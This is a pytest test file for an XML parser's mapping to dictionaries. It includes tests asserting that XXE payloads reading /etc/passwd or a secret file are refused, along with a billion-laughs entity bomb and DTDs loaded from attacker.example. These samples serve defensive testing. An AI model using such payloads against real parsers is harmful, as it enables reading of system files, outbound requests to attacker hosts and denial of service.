import builtins

import pytest

from hub.domain.failure import ErrorClass
from hub.mapping import MappingError, parse_xml


def test_elements_become_a_dict_under_the_root_name():
    doc = parse_xml("<order><id>PO-1</id><note/></order>")
    assert doc == {"order": {"id": "PO-1", "note": None}}


def test_repeated_children_become_a_list_in_document_order():
    doc = parse_xml("<o><line>1</line><x>a</x><line>2</line><line>3</line></o>")
    assert doc == {"o": {"line": ["1", "2", "3"], "x": "a"}}


def test_attributes_are_at_keys_and_text_beside_them_is_hash_text():
    doc = parse_xml('<o id="7"><qty unit="PC"> 2 </qty>tail</o>')
    assert doc == {"o": {"@id": "7", "qty": {"@unit": "PC", "#text": " 2 "}, "#text": "tail"}}


def test_indentation_between_children_is_dropped_but_leaf_text_is_verbatim():
    doc = parse_xml("<o>\n  <a>  padded  </a>\n  <b>\n</b>\n</o>")
    assert doc == {"o": {"a": "  padded  ", "b": "\n"}}


def test_namespaces_are_reduced_to_local_names_and_xmlns_is_not_kept():
    text = (
        '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:n="urn:n">'
        '<s:Body><n:ret n:versao="4.00" xmlns="urn:d"><cStat>107</cStat></n:ret></s:Body></s:Envelope>'
    )
    assert parse_xml(text) == {"Envelope": {"Body": {"ret": {"@versao": "4.00", "cStat": "107"}}}}


def test_bytes_honour_the_declared_encoding():
    text = '<?xml version="1.0" encoding="ISO-8859-1"?><n>S\xe3o Paulo</n>'.encode("latin-1")
    assert parse_xml(text) == {"n": "S\u00e3o Paulo"}


def test_cdata_and_character_references_are_text():
    assert parse_xml("<a><![CDATA[<b>&]]>&#233;&amp;</a>") == {"a": "<b>&\u00e9&"}


def _refused(text: str | bytes, **limits: int) -> MappingError:
    with pytest.raises(MappingError) as raised:
        parse_xml(text, **limits)
    assert raised.value.error_class is ErrorClass.SYNTAX
    assert raised.value.field is None
    return raised.value


def test_xxe_is_refused_and_the_referenced_file_is_never_opened(tmp_path, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    opened = []
    real_open = builtins.open
    monkeypatch.setattr(builtins, "open", lambda *a, **k: opened.append(a) or real_open(*a, **k))

    error = _refused(f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]><x>&e;</x>')

    assert "DOCTYPE" in error.message
    assert "TOP-SECRET" not in error.message
    assert opened == []


def test_the_issue_xxe_payload_is_refused():
    assert "DOCTYPE" in _refused('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>').message


@pytest.mark.timeout(5)
def test_billion_laughs_is_refused_before_any_expansion():
    lol = "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' if i else '<!ENTITY lol0 "lol">'
        for i in range(10)
    )
    assert "DOCTYPE" in _refused(f"<!DOCTYPE lolz [{lol}]><lolz>&lol9;</lolz>").message


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
        '<!DOCTYPE x PUBLIC "-//A//B" "file:///etc/passwd"><x/>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><x/>',
        "<!DOCTYPE x><x/>",
    ],
    ids=["external-dtd", "public-dtd", "parameter-entity", "empty-doctype"],
)
def test_any_doctype_is_refused(text):
    assert "DOCTYPE" in _refused(text).message


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("<a><b></a>", "mismatched tag"),
        ("<x>&undeclared;</x>", "undefined entity"),
        ("", "no element found"),
        ("<a/><b/>", "junk after document element"),
        ("<a>\x01</a>", "not well-formed"),
    ],
)
def test_malformed_xml_is_a_syntax_error_with_a_position(text, reason):
    error = _refused(text)
    assert reason in error.message
    assert "line 1" in error.message


def test_deep_nesting_is_refused():
    assert "nested deeper than 5" in _refused("<a>" * 6 + "</a>" * 6, max_depth=5).message
    assert parse_xml("<a>" * 5 + "</a>" * 5, max_depth=5)


def test_oversized_input_is_refused_before_parsing():
    assert "larger than 100 bytes" in _refused("<a>" + "x" * 100 + "</a>", max_bytes=100).message


def test_attributes_colliding_once_namespaces_are_removed_are_refused():
    assert "attribute 'id'" in _refused('<a xmlns:p="urn:p" xmlns:q="urn:q" p:id="1" q:id="2"/>').message
